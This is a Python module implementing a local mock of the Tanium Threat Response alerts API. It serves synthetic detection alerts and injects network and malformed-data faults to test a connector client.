_SLOTS = _SlotNames()
_SENTINEL = re.compile(r'"\\u0000([A-Za-z0-9_]+)\\u0000"')


def _compile(tree: dict) -> str:
    """JSON text of a sentinel tree → a str.format template with one {slot} per sentinel."""
    text = orjson.dumps(tree).decode().replace("{", "{{").replace("}", "}}")
    return _SENTINEL.sub(r"{\1}", text)


def _json(value: Any) -> str:
    return orjson.dumps(value).decode()


@functools.lru_cache(maxsize=4096)
def _json_cached(value: str) -> str:  # catalogue strings: paths, names, users
    return orjson.dumps(value).decode()


def _process_nodes(v: dict, k: int, windows: bool, props_parent: Any, acting_parent: Any) -> tuple[dict, dict]:
    """Process number k of a chain in its two shapes: `match.properties` and `acting_artifact.process`."""
    node = {"pid": v[f"pid{k}"], "args": v[f"args{k}"],
            "file": {"md5": v[f"md5{k}"], "sha1": v[f"sha1{k}"], "sha256": v[f"sha256{k}"], "fullpath": v[f"path{k}"]},
            "name": v[f"name{k}"], "ppid": v[f"ppid{k}"], "user": v[f"user{k}"], "start_time": v[f"start{k}"],
            "recorder_unique_id": v[f"uid{k}"]}
    if props_parent is not None:
        node["parent"] = props_parent
    ffile = {"hash": {"md5": v[f"md5{k}"], "sha1": v[f"sha1{k}"], "sha256": v[f"sha256{k}"]}, "path": v[f"path{k}"]}
    if windows:
        issuer, subject = _SIGNERS[k % 2]
        ffile["signature_data"] = {"issuer": issuer, "status": 1, "subject": subject}
    art = {"pid": v[f"pid{k}"], "file": {"file": ffile, "artifact_hash": v[f"ah{k}"], "instance_hash": v[f"ih{k}"]},
           "user": {"user": {"name": v[f"uname{k}"], "domain": v["domain"], "user_id": str(1000 + k)}},
           "handles": [], "arguments": v[f"args{k}"], "start_time": v[f"start{k}"], "tanium_unique_id": v[f"uid{k}"]}
    if acting_parent is not None:
        art["parent"] = {"process": acting_parent}
    return node, art


def _details_tree(shape: tuple[bool, str, bool], v: dict) -> dict:
    """The structure of `details` for (windows, matchType, processInjection), filled from `v`."""
    windows, mt, injection = shape
    # the leaf process; its ancestors arrive as ready JSON (see _Data._ancestry)
    props, acting = _process_nodes(v, 0, windows, v["props_parent"], v["acting_parent"])
    intra = [{"id_v2": v["intra"]}]
    if mt == "file":
        fhash = {"md5": v["fmd5"], "sha1": v["fsha1"], "sha256": v["fsha256"]}
        match = {"hash": v["match_hash"], "type": "file", "source": "at_rest", "version": 1,
                 "properties": {**fhash, "size": v["fsize"], "fullpath": v["fpath"]}}
        what = {"source_name": "at_rest", "intel_intra_ids": intra, "artifact_activity": {"relevant_actions": [
            {"target": {"file": {"hash": fhash, "path": v["fpath"], "size_bytes": v["fsize"]},
                        "artifact_hash": v["match_hash"], "instance_hash": v["ih"], "is_intel_target": True}}]}}
    else:
        if mt == "port":
            proc = {k: x for k, x in props.items() if k not in ("parent", "recorder_unique_id")}
            proc["recorder_table_id"] = v["uid0"]
            net = {"local_ip": v["local_ip"], "remote_ip": v["remote_ip"], "local_port": v["local_port"],
                   "remote_port": v["remote_port"]}
            match = {"hash": v["match_hash"], "type": "port", "source": "threatresponse_database", "version": 1,
                     "properties": {"process": proc, **net}}
            action = {"verb": 4, "target": {"network": {**net, "protocol": "tcp"}}, "timestamp": v["ts"]}
        else:
            match = {"hash": v["match_hash"], "type": "process", "source": "recorder", "version": 1,
                     "contexts": [{"file": {"uniqueEventId": v["event_id"]},
                                   "event": {"fileCreate": {"path": v["target"]}, "timestampMs": v["ts_ms"]}}],
                     "properties": props}
            action = {"verb": 7, "target": {"file": {"path": v["target"]}, "artifact_hash": v["ah"],
                                            "instance_hash": v["ih2"]},
                      "timestamp": v["ts"],
                      "tanium_recorder_context": {"file": {"unique_event_id": v["event_id"]},
                                                  "event": {"file_create": {"path": v["target"]},
                                                            "timestamp_ms": v["ts_ms"]}},
                      "tanium_recorder_event_table_id": v["event_id"]}
        what = {"source_name": "recorder", "intel_intra_ids": intra,
                "artifact_activity": {"acting_artifact": {"process": acting, "artifact_hash": v["match_hash"],
                                                          "instance_hash": v["ih"], "is_intel_target": True},
                                      "relevant_actions": [action]}}
        if injection:
            what["intel_intra_ids"] = []
            what["security_event"] = {"timestamp": v["alerted"], "type_identifier": "Thread"}
            what["additional_fields"] = {"technique": "Thread", "execution_target_name": "LoadLibraryW",
                                         "execution_target_address": v["address"]}
    finding = {"whats": [what], "domain": "threatresponse", "hunt_id": v["hunt_id"], "intel_id": v["finding_intel_id"],
               "last_seen": v["seen"], "threat_id": v["threat_id"], "finding_id": v["finding_id"],
               "first_seen": v["seen"], "source_name": what["source_name"], "system_info": v["system_info"],
               "reporting_id": v["reporting_id"]}
    if injection:
        finding["description"] = "Thread"
    return {"match": match, "finding": finding, "intel_id": v["intel_id"], "config_id": v["config_id"],
            "config_rev_id": v["config_rev_id"]}


class _CreatedView:
    """createdAt by position, as a sequence for bisect."""

    def __init__(self, data: _Data):
        self.data = data
        self.n = data.total()

    def __len__(self) -> int:
        return self.n

    def __getitem__(self, pos: int) -> int:
        return self.data.created(pos)


class _BadRequest(Exception):
    pass


class Simulator:
    """See the module docstring. `port=0` picks a free port; `end` fixes the end of the history (for
    fully reproducible timestamps); `history` is in seconds."""

    def __init__(self, host: str = "127.0.0.1", port: int = 0, *, seed: int = 1, alerts: int = 1000,
                 intel_docs: int = 20, revisions: int = 1, hosts: int = 50, history: float = 12 * 3600,
                 end: datetime | str | None = None, api_key: str = "token-demo", live_rate: float = 0.0,
                 late_fraction: float = 0.0, late_by: tuple[float, float] = (1800, 6 * 3600),
                 live_total: int | None = None, latency: float = 0.0, module_missing: bool = False,
                 certfile: str | None = None, keyfile: str | None = None, bare: bool = False):
        if alerts < 0 or intel_docs < 1 or hosts < 1 or history <= 0 or live_rate < 0:
            raise ValueError("alerts must be >= 0, intel_docs and hosts >= 1, history and live_rate positive")
        if not 0 <= late_fraction <= 1:
            raise ValueError(f"late_fraction must be between 0 and 1, not {late_fraction}")
        self.seed = seed
        self.api_key = api_key
        self.live_rate, self.late_fraction, self.late_by = live_rate, late_fraction, late_by
        self.live_total = live_total
        self.bare = bare
        end_ms = _to_ms(end) if end is not None else _now_ms()
        self.data = _Data(seed, alerts, intel_docs, revisions, hosts, end_ms, int(history * 1000))
        self.faults = Faults(seed)
        self.faults.latency = latency
        self.faults.module_missing = module_missing
        self.stats: Counter = Counter()
        self.garbage_log: list[tuple[str, int | None]] = []
        self.live_created = 0
        self._stop = threading.Event()
        self._live_rng = random.Random(seed ^ 0x11FE)
        self._conns: set[socket.socket] = set()
        self._conns_lock = threading.Lock()
        self._garbage_id = 0
        self._ssl = None
        if certfile:
            self._ssl = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            self._ssl.load_cert_chain(certfile, keyfile)
        self.server = _Server((host, port), _Handler, self)
        self.host = host
        self.port = self.server.server_address[1]
        self._threads: list[threading.Thread] = []

    # -- lifecycle ---------------------------------------------------------------------------------
    @property
    def url(self) -> str:
        h = f"[{self.host}]" if ":" in self.host else self.host
        return f"{'https' if self._ssl else 'http'}://{h}:{self.port}"

    def settings(self, **overrides: Any) -> dict:
        """A `[tanium]` section (as a dict) pointing at this simulator."""
        base = {"protocol": "https" if self._ssl else "http", "host": self.host, "port": self.port,
                "api_key": self.api_key}
        base.update(overrides)
        return base

    def start(self) -> "Simulator":
        t = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.1},
                             name=f"simulator-{self.port}", daemon=True)
        t.start()
        self._threads.append(t)
        if self.live_rate > 0:
            lt = threading.Thread(target=self._live, name="simulator-live", daemon=True)
            lt.start()
            self._threads.append(lt)
        return self

    def stop(self) -> None:
        if self._stop.is_set():
            return
        self._stop.set()
        if self._threads:  # shutdown() waits for serve_forever(), which never ran otherwise
            self.server.shutdown()
        self.server.server_close()
        with self._conns_lock:
            for c in list(self._conns):
                try:
                    c.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass
        for t in self._threads:
            t.join(5)

    def __enter__(self) -> "Simulator":
        return self.start()

    def __exit__(self, *exc) -> None:
        self.stop()

    # -- data API ----------------------------------------------------------------------------------
    @property
    def alert_count(self) -> int:
        return self.data.total()

    @property
    def intel_doc_ids(self) -> list[int]:
        return [d.id for d in self.data.docs]

    def get_alert(self, alert_id: int) -> dict | None:
        """The alert as served (details a JSON string), or None."""
        if not 1 <= alert_id <= self.data.total():
            return None
        return dict(self.data.alert(alert_id - 1))

    def intel_doc(self, doc_id: int) -> dict | None:
        d = self.data.doc_by_id.get(doc_id)
        return d.body(self.data.n_base) if d else None

    def prune(self, n: int) -> int:
        """Delete the `n` oldest alerts, as TR's periodic pruning does: offsets of the rest shift left."""
        with self.data.lock:
            self.data.pruned = min(self.data.total(), self.data.pruned + max(0, n))
            return self.data.pruned

    def bump_revision(self, doc_id: int) -> int:
        """New revision of an IntelDoc: later alerts carry it and /intels/{id} serves it."""
        d = self.data.doc_by_id[doc_id]
        with self.data.lock:
            d.revisions += 1
            return d.revisions

    def inject(self, computer_name: str | None = None, ip: str | None = None,
               alerted_at: datetime | str | None = None, created_at: datetime | str | None = None,
               match_type: str | None = None, intel_doc_id: int | None = None, **extra: Any) -> dict:
        """Add one alert now (next id; createdAt = now unless given, never before the newest alert).
        Keyword overrides: local_ip, remote_ip, local_port, remote_port, md5, sha1, sha256, size, args,
        path, process_name, user, state, severity, priority, scan_config_id, intel_doc_revision,
        details (any value: a str is served raw, None as null, others JSON-encoded), fields (dict of
        top-level fields set last). Returns the alert as served (details a JSON string)."""
        allowed = {"local_ip", "remote_ip", "local_port", "remote_port", "md5", "sha1", "sha256", "size", "args",
                   "path", "process_name", "user", "state", "severity", "priority", "scan_config_id",
                   "intel_doc_revision", "details", "fields"}
        unknown = set(extra) - allowed
        if unknown:
            raise TypeError(f"inject() got unknown overrides {sorted(unknown)}; allowed: {sorted(allowed)}")
        if match_type not in (None, "process", "file", "port"):
            raise ValueError(f"match_type must be process, file or port, not {match_type!r}")
        ov = dict(extra)
        for k, v in (("computer_name", computer_name), ("ip", ip), ("match_type", match_type),
                     ("intel_doc_id", intel_doc_id)):
            if v is not None:
                ov[k] = v
        data = self.data
        doc = data.doc_by_id.get(intel_doc_id) if intel_doc_id is not None else None
        if doc is None and intel_doc_id is None:
            want = match_type or "process"
            doc = next((d for d in data.docs if d.match_type == want), data.docs[0])
        if doc and match_type is None:
            ov["match_type"] = doc.match_type
        with data.lock:
            last = data.last_created()
            if created_at is not None:
                created = _to_ms(created_at)
                if created < last:
                    raise ValueError(f"created_at {iso_ms(created)} is before the newest alert ({iso_ms(last)}); "
                                     "ids increase with createdAt, so injected alerts must be the newest")
            else:
                created = max(_now_ms(), last)
            alerted = _to_ms(alerted_at) if alerted_at is not None else (created - 30_000) // 1000 * 1000
            return dict(data.append((created, alerted), doc, ov))

    def _live(self) -> None:
        t0 = time.monotonic()
        tick = min(0.1, 1.0 / self.live_rate)
        while not self._stop.wait(tick):
            due = int((time.monotonic() - t0) * self.live_rate) - self.live_created
            if self.live_total is not None:
                due = min(due, self.live_total - self.live_created)
            due = min(due, max(1, int(self.live_rate)))  # after a pause, catch up over a few seconds
            for _ in range(max(0, due)):
                self._live_one()
            if self.live_total is not None and self.live_created >= self.live_total:
                return

    def _live_one(self) -> None:
        data, rng = self.data, self._live_rng
        with data.lock:
            created = max(_now_ms(), data.last_created())
            if rng.random() < self.late_fraction:
                alerted = created - int(rng.uniform(*self.late_by) * 1000)
            else:
                alerted = created - rng.randrange(300_000)
            u = rng.random()
            doc = data.docs[min(bisect.bisect_left(data.cum, u), len(data.docs) - 1)]
            data.append((created, alerted // 1000 * 1000), doc, {"match_type": doc.match_type})
            self.live_created += 1

    # -- request handling --------------------------------------------------------------------------
    def _route(self, path: str) -> tuple[str, int | None]:
        path = path.rstrip("/") or "/"
        if path == "/api/v2/session/current":
            return "session", None
        if not path.startswith(TR_PATH + "/"):
            return "unknown", None
        parts = path[len(TR_PATH) + 1:].split("/")
        try:
            if parts == ["alerts"]:
                return "alerts", None
            if parts == ["intels"]:
                return "intels", None
            if len(parts) == 2 and parts[0] == "alerts":
                return "alert", int(parts[1])
            if len(parts) == 2 and parts[0] == "intels":
                return "intel", int(parts[1])
            if len(parts) == 3 and parts[0] == "intels" and parts[2] == "labels":
                return "intel_labels", int(parts[1])
        except ValueError:
            pass
        return "unknown", None

    def handle(self, req: "_Handler") -> None:
        raw_path, _, query = req.path.partition("?")
        path = unquote(raw_path)
        endpoint, ident = self._route(path)
        self.stats[endpoint] += 1
        f = self.faults
        if req.headers.get("session") != self.api_key or f.wrong_token:
            return req.reply(401, {"text": "Unauthorized",
                                   "errors": [{"code": "Unauthorized",
                                               "description": "Invalid or expired session"}]})
        is_tr = path.startswith(TR_PATH)
        if endpoint == "unknown" or (f.module_missing and is_tr):
            return req.reply(404, {"text": "Not Found",
                                   "errors": [{"code": "NotFound", "description": f"{path} does not exist"}]})
        if f.forbidden and is_tr:
            return req.reply(403, {"text": "Forbidden",
                                   "errors": [{"code": "Forbidden", "description": "insufficient permissions"}]})
        faulty = f.applies(endpoint)
        if faulty and f.latency > 0:
            self._stop.wait(f.latency)
        if faulty and f.take("stall"):
            self._stop.wait(f.stall_seconds)
            return req.drop()
        if faulty and f.take("rate_limit"):
            headers = {"Retry-After": f.retry_after} if f.retry_after is not None else {}
            return req.reply(429, {"text": "Too Many Requests"}, headers)
        if faulty and f.take("error"):
            return req.reply(f.error_status, {"text": "Internal Server Error"})
        try:
            status, payload, page = self._answer(endpoint, ident, query)
        except _BadRequest as e:
            return req.reply(400, {"text": "Bad Request", "errors": [{"code": "BadRequest", "description": str(e)}]})
        if status == 200 and page is not None and faulty and f.take("garbage"):
            body = self._with_garbage(payload, page)
        else:
            body = orjson.dumps(payload)
        if faulty and status == 200 and f.take("malformed"):
            body = body[: max(1, len(body) * 2 // 3)]
        if faulty and f.take("reset"):
            return req.reset(status, body)
        req.send_body(status, body)

    def _answer(self, endpoint: str, ident: int | None, query: str) -> tuple[int, Any, list | None]:
        """→ (status, payload, page items for list replies)."""
        params = parse_qsl(query, keep_blank_values=True)
        data = self.data
        if endpoint == "session":
            return 200, {"data": {"id": 4242, "userId": 7, "user": {"id": 7, "name": "svc-threat-response"},
                                  "authType": "api_token"}}, None
        if endpoint == "alerts":
            items, total, filtered = self._list_alerts(params)
            body = items if self.bare else {"data": items, "meta": {"totalCount": total, "filteredCount": filtered}}
            return 200, body, items
        if endpoint == "alert":
            if not 1 <= ident <= data.total():
                return 404, {"text": "Not Found", "errors": [{"code": "NotFound",
                                                              "description": f"alert {ident} not found"}]}, None
            alert = data.alert(ident - 1)
            if "intelDoc" in _expand(params):
                alert = self._expanded(alert)
            return 200, alert if self.bare else {"data": alert}, None
        if endpoint == "intels":
            docs = self._list_intels(params)
            return 200, docs if self.bare else {"data": docs[0], "meta": docs[1]}, None
        doc = data.doc_by_id.get(ident)
        if doc is None:
            return 404, {"text": "Not Found", "errors": [{"code": "NotFound",
                                                          "description": f"intel {ident} not found"}]}, None
        if endpoint == "intel":
            body = doc.body(data.n_base)
        else:
            body = [{"id": i, "name": n, "description": f"{n} activity", "indicatorCount": 0,
                     "signalCount": 3 + i, "createdAt": iso_ms(data.start_ms - 90 * 86_400_000 + i * 1000),
                     "updatedAt": iso_ms(data.start_ms - 60 * 86_400_000 + i * 1000)}
                    for i, n in _LABELS if i in doc.labels]
        return 200, body if self.bare else {"data": body}, None

    def _list_intels(self, params: list[tuple[str, str]]):
        limit = _int_param(params, "limit", 50, 0, MAX_LIMIT)
        offset = _int_param(params, "offset", 0, 0, None)
        want: dict[str, list[str]] = {}
        for k, v in params:
            want.setdefault(k, []).append(v)
        out = []
        for d in self.data.docs:
            body = d.body(self.data.n_base)
            if "name" in want and not any(v.lower() in d.name.lower() for v in want["name"]):
                continue
            if "description" in want and not any(v.lower() in body["description"].lower() for v in want["description"]):
                continue
            if "type" in want and d.kind not in want["type"]:
                continue
            if "labelId" in want and not any(v.isdigit() and int(v) in d.labels for v in want["labelId"]):
                continue
            if "mitreTechniqueId" in want and not any(
                    v.lower() in t.lower() for v in want["mitreTechniqueId"] for t in d.technique_ids):
                continue
            out.append(body)
        page = out[offset:offset + limit]
        if self.bare:
            return page
        return page, {"totalCount": len(self.data.docs), "filteredCount": len(out)}

    def _list_alerts(self, params: list[tuple[str, str]]) -> tuple[list, int, int]:
        data = self.data
        limit = _int_param(params, "limit", 100, 0, MAX_LIMIT)
        offset = _int_param(params, "offset", 0, 0, None)
        keys = _sort_keys(params)
        expand = _expand(params)
        filters: dict[str, list[str]] = {}
        t_from = t_until = None
        for k, v in params:
            if k in ("alertedAtFrom", "alertedAtUntil"):
                try:
                    ms = int(parse_ts(v).timestamp() * 1000)
                except ValueError:
                    raise _BadRequest(f"{k}: {v!r} is not an ISO-8601 time such as 2023-01-01T11:00:00.000Z") from None
                if k == "alertedAtFrom":
                    t_from = ms if t_from is None else min(t_from, ms)  # repeated = OR: the widest window
                else:
                    t_until = ms if t_until is None else max(t_until, ms)
            elif k in EXACT_FILTERS or k in NUMBER_FILTERS or k in CONTAINS_FILTERS or k in DOC_FILTERS:
                filters.setdefault(k, []).append(v)
        with data.lock:
            n_total, p0 = data.total(), data.pruned
        # candidate positions: a createdAt range for history alerts (alertedAt ≤ createdAt ≤ alertedAt
        # + 5 min there), every stored alert (those may be late by hours)
        lo, hi = min(p0, data.n_base), data.n_base
        if t_from is not None:
            lo = max(lo, min(data.first_pos_created_at_least(t_from), data.n_base))
        if t_until is not None:
            hi = min(hi, data.first_pos_created_at_least(t_until + MAX_ALERT_DELAY_MS))
        timed = t_from is not None or t_until is not None

        def positions(reverse: bool):
            if reverse:
                yield from range(n_total - 1, max(data.n_base, p0) - 1, -1)
                yield from range(hi - 1, lo - 1, -1)
            else:
                yield from range(lo, hi)
                yield from range(max(data.n_base, p0), n_total)

        def alerted_ok(pos: int) -> bool:
            a = data.base_alerted(pos) if pos < data.n_base else data.extra_alerted[pos - data.n_base]
            return (t_from is None or a >= t_from) and (t_until is None or a < t_until)

        natural = _natural(keys)
        if natural is not None and not filters and not timed:
            count = n_total - p0
            if natural == "asc":
                chosen = range(p0 + offset, min(p0 + offset + limit, n_total))
            else:
                chosen = range(n_total - 1 - offset, max(n_total - 1 - offset - limit, p0 - 1), -1)
        elif natural is not None:
            chosen, count = [], 0
            for pos in positions(natural == "desc"):
                if timed and not alerted_ok(pos):
                    continue
                if filters and not self._matches(pos, filters):
                    continue
                if offset <= count < offset + limit:
                    chosen.append(pos)
                count += 1
        else:
            matched = [p for p in positions(False)
                       if (not timed or alerted_ok(p)) and (not filters or self._matches(p, filters))]
            count = len(matched)
            tops = {p: data.top(p) for p in matched}
            first_desc = keys[0][1]
            order = keys + ([("id", first_desc)] if all(c != "id" for c, _ in keys) else [])
            for col, desc in reversed(order):  # stable sorts, least significant column first
                matched.sort(key=lambda p, c=col: _sort_value(tops[p].get(c)), reverse=desc)
            chosen = matched[offset:offset + limit]
        items = [data.alert(p) for p in chosen]
        if "intelDoc" in expand:
            items = [self._expanded(a) for a in items]
        return items, n_total - p0, count

    def _expanded(self, alert: dict) -> dict:
        d = self.data.doc_by_id.get(alert.get("intelDocId"))
        out = dict(alert)
        if d:
            out["intelDoc"] = d.body(self.data.n_base, full=False)
        return out

    def _matches(self, pos: int, filters: dict[str, list[str]]) -> bool:
        data = self.data
        top = data.top(pos)
        doc = None
        for k, vals in filters.items():
            if k in EXACT_FILTERS:
                if top.get(k) not in vals:
                    return False
            elif k in NUMBER_FILTERS:
                if not any(v.strip().isdigit() and top.get(k) == int(v) for v in vals):
                    return False
            elif k in CONTAINS_FILTERS:
                if k == "details" and pos < data.n_base:
                    top = data.alert(pos)
                have = top.get(k)
                have = have.lower() if isinstance(have, str) else ""
                if not any(v.lower() in have for v in vals):
                    return False
            else:
                doc = doc or data.doc_by_id.get(top.get("intelDocId"))
                if doc is None:
                    return False
                if k == "intelType":
                    if doc.kind not in vals:
                        return False
                    continue
                have = {"intelDocName": [doc.name], "intelSource": [_SOURCES.get(doc.source, "")],
                        "labelName": doc.label_names, "mitreId": doc.technique_ids,
                        "platform": doc.platforms}[k]
                if not any(v.lower() in h.lower() for v in vals for h in have):
                    return False
        return True

    def _with_garbage(self, payload: Any, page: list) -> bytes:
        """Serialize an alerts reply with garbage records mixed into the page."""
        rng = random.Random(_h(self.seed, len(self.garbage_log)))
        after: dict[int, list[bytes]] = {}  # real record index → garbage records following it
        for _ in range(self.faults.garbage_per_page):
            kind = self.faults.next_garbage_kind()
            k = rng.randrange(len(page)) if page else -1
            created = page[k]["createdAt"] if page else iso_ms(_now_ms())
            with self.data.lock:
                self._garbage_id += 1
                gid = -self._garbage_id
                self.garbage_log.append((kind, None if kind in ("non_object", "missing_id", "wrong_types") else gid))
            after.setdefault(k, []).append(self._garbage(kind, gid, created))
        items = after.pop(-1, [])
        for k, alert in enumerate(page):
            items.append(orjson.dumps(alert))
            items.extend(after.get(k, ()))
        arr = b"[" + b",".join(items) + b"]"
        if self.bare:
            return arr
        return b'{"data":' + arr + b',"meta":' + orjson.dumps(payload["meta"]) + b"}"

    def _garbage(self, kind: str, gid: int, created: str) -> bytes:
        base = {"id": gid, "state": "unresolved", "type": "detect.match", "guid": f"garbage-{-gid}",
                "intelDocId": self.data.docs[0].id, "computerName": "garbage.corp.local",
                "computerIpAddress": "10.255.255.1", "matchType": "process", "alertedAt": created,
                "createdAt": created, "details": "{}"}
        if kind == "non_object":
            return [b"42", b'"not an alert"', b"null", b"[1,2,3]", b"true"][-gid % 5]
        if kind == "missing_id":
            base.pop("id")
            return orjson.dumps(base)
        if kind == "wrong_types":
            return orjson.dumps({"id": f"x{-gid}", "createdAt": 1697459178, "alertedAt": False,
                                 "computerName": ["a", "b"], "intelDocId": "seven", "details": 17, "state": {}})
        if kind == "huge_details":
            base["details"] = orjson.dumps({"match": {"type": "file", "blob": "A" * self.faults.huge_details_bytes}}
                                           ).decode()
            return orjson.dumps(base)
        if kind == "deep_nesting":
            base["details"] = "[" * 100_000 + "]" * 100_000
            nested: Any = "bottom"
            for _ in range(200):  # stays under the usual JSON parser depth limits, deep for everything else
                nested = {"a": nested}
            base["nested"] = nested
            return orjson.dumps(base)
        if kind == "invalid_utf8":
            raw = orjson.dumps(base)
            return raw.replace(b"garbage.corp.local", b"bad-\xff\xfe-name.corp.local")
        raise ValueError(f"unknown garbage kind {kind!r}; allowed: {', '.join(GARBAGE_KINDS)}")


def _expand(params: list[tuple[str, str]]) -> set[str]:
    return {x.strip() for k, v in params if k == "expand" for x in v.split(",")}


def _int_param(params: list[tuple[str, str]], name: str, default: int, low: int, high: int | None) -> int:
    vals = [v for k, v in params if k == name]
    if not vals:
        return default
    v = vals[-1].strip()
    if not v.lstrip("-").isdigit():
        raise _BadRequest(f"{name} must be an integer, not {vals[-1]!r}")
    n = int(v)
    if n < low or (high is not None and n > high):
        raise _BadRequest(f"{name} must be between {low} and {high}" if high is not None else
                          f"{name} must be at least {low}")
    return n


def _sort_keys(params: list[tuple[str, str]]) -> list[tuple[str, bool]]:
    keys = []
    for k, v in params:
        if k != "sort":
            continue
        for col in v.split(","):
            col = col.strip()
            if not col:
                continue
            desc = col.startswith("-")
            col = col.lstrip("+-")
            if col not in ALERT_FIELDS or col == "details":
                columns = ", ".join(f for f in ALERT_FIELDS if f != "details")
                raise _BadRequest(f"cannot sort by {col!r}; columns: {columns}")
            keys.append((col, desc))
    return keys


def _natural(keys: list[tuple[str, bool]]) -> str | None:
    """'asc'/'desc' when the sort equals id order (ids increase with createdAt), else None."""
    if not keys:
        return "asc"
    cols = [c for c, _ in keys]
    if cols not in (["createdAt"], ["id"], ["createdAt", "id"]):
        return None
    dirs = {d for _, d in keys}
    if len(dirs) != 1:
        return None
    return "desc" if dirs.pop() else "asc"


def _sort_value(v: Any) -> tuple:
    return (1, "") if v is None else (0, v)


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True
    request_queue_size = 128

    def __init__(self, addr, handler, sim: Simulator):
        self.sim = sim
        super().__init__(addr, handler)

    def finish_request(self, request, client_address):
        # TLS handshakes run here, in the connection's own thread, not in the accept loop
        raw = request
        with self.sim._conns_lock:
            self.sim._conns.add(raw)
        try:
            if self.sim._ssl is not None:
                try:
                    request = self.sim._ssl.wrap_socket(raw, server_side=True)
                except (ssl.SSLError, OSError) as e:
                    log.debug("simulator: TLS handshake failed: %s", e)
                    return
            super().finish_request(request, client_address)
        finally:
            with self.sim._conns_lock:
                self.sim._conns.discard(raw)

    def handle_error(self, request, client_address):
        log.debug("simulator: connection error from %s", client_address, exc_info=True)


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "Tanium"
    sys_version = ""
    timeout = 120  # idle keep-alive connections

    def do_GET(self):  # noqa: N802 (http.server API)
        try:
            self.server.sim.handle(self)
        except (BrokenPipeError, ConnectionResetError):
            self.close_connection = True
        except Exception:  # a simulator bug: say so loudly, answer 500
            log.exception("simulator: error handling GET %s", self.path.split("?")[0])
            self.close_connection = True
            try:
                self.reply(500, {"text": "simulator error"})
            except OSError:
                pass

    def do_POST(self):  # noqa: N802
        self.reply(405, {"text": "Method Not Allowed"})

    def reply(self, status: int, payload: Any, headers: dict | None = None) -> None:
        self.send_body(status, orjson.dumps(payload), headers)

    def setup(self):
        super().setup()
        # small replies must not wait for the client's delayed ACK (Nagle): 40 ms per request otherwise
        self.connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    def send_body(self, status: int, body: bytes, headers: dict | None = None) -> None:
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self._headers_buffer.append(b"\r\n")  # end_headers(), but headers and body leave in one write
        self._headers_buffer.append(body)
        self.flush_headers()

    def reset(self, status: int, body: bytes) -> None:
        """Headers and half the body, then a TCP reset."""
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body[: len(body) // 2])
        self.wfile.flush()
        self.drop()

    def drop(self) -> None:
        self.close_connection = True
        try:
            self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            self.connection.close()
        except OSError:
            pass

    def log_message(self, fmt, *args):  # one line per request is noise at benchmark rates
        pass


# ---------------------------------------------------------------------------------------------------
# Command line: `tanium-connector simulate`

def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--host", default="127.0.0.1", help="address to listen on (default 127.0.0.1)")
    parser.add_argument("--port", type=int, default=8443, help="port to listen on (default 8443; 0 = any free)")
    parser.add_argument("--seed", type=int, default=1, help="random seed for the generated data (default 1)")
    parser.add_argument("--alerts", type=int, default=1000, help="history alerts (default 1000)")
    parser.add_argument("--intel-docs", type=int, default=20, help="IntelDocs the alerts share (default 20)")
    parser.add_argument("--revisions", type=int, default=1, help="up to this many revisions per IntelDoc (default 1)")
    parser.add_argument("--hosts", type=int, default=50, help="endpoints the alerts come from (default 50)")
    parser.add_argument("--history", default="12h", help="time span of the history alerts, e.g. 12h or 7d")
    parser.add_argument("--api-key", default=None,
                        help="token clients must send in the session header (default: $TANIUM_API_KEY or token-demo)")
    parser.add_argument("--live-rate", type=float, default=0.0, help="new alerts per second (default 0: none)")
    parser.add_argument("--late-fraction", type=float, default=0.0,
                        help="fraction of live alerts arriving late, alertedAt hours in the past (default 0)")
    parser.add_argument("--live-total", type=int, default=None, help="stop live alerts after this many")
    parser.add_argument("--latency-ms", type=float, default=0.0, help="delay added to every reply (default 0)")
    parser.add_argument("--module-missing", action="store_true",
                        help="answer 404 on every Threat Response path (module not installed)")
    parser.add_argument("--tls-cert", default=None, help="PEM certificate: serve HTTPS")
    parser.add_argument("--tls-key", default=None, help="PEM private key for --tls-cert")


def run(args: argparse.Namespace) -> int:
    if args.tls_key and not args.tls_cert:
        print("simulate: --tls-key needs --tls-cert", file=sys.stderr)
        return 2
    try:
        history = parse_duration(args.history)
        sim = Simulator(args.host, args.port, seed=args.seed, alerts=args.alerts, intel_docs=args.intel_docs,
                        revisions=args.revisions, hosts=args.hosts, history=history,
                        api_key=args.api_key or os.environ.get("TANIUM_API_KEY") or "token-demo",
                        live_rate=args.live_rate, late_fraction=args.late_fraction, live_total=args.live_total,
                        latency=args.latency_ms / 1000, module_missing=args.module_missing,
                        certfile=args.tls_cert, keyfile=args.tls_key)
    except (ValueError, OSError, ssl.SSLError) as e:
        print(f"simulate: {e}", file=sys.stderr)
        return 2
    done = threading.Event()
    for sig in (signal.SIGINT, signal.SIGTERM):
        try:
            signal.signal(sig, lambda *_: done.set())
        except ValueError:  # not the main thread: the caller stops us
            pass
    with sim:
        live = f", {args.live_rate:g} new alerts/s" if args.live_rate else ""
        missing = " [TR module missing: 404 on every TR path]" if args.module_missing else ""
        print(f"Tanium Threat Response simulator on {sim.url} ({args.alerts} alerts, {args.intel_docs} IntelDocs, "
              f"seed {args.seed}{live}){missing}; press Ctrl-C to stop", flush=True)
        while not done.wait(0.5):
            pass
    return 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m connector.simulator", description=__doc__.splitlines()[0])
    add_arguments(parser)
    return run(parser.parse_args(argv))


if __name__ == "__main__":
    sys.exit(main())
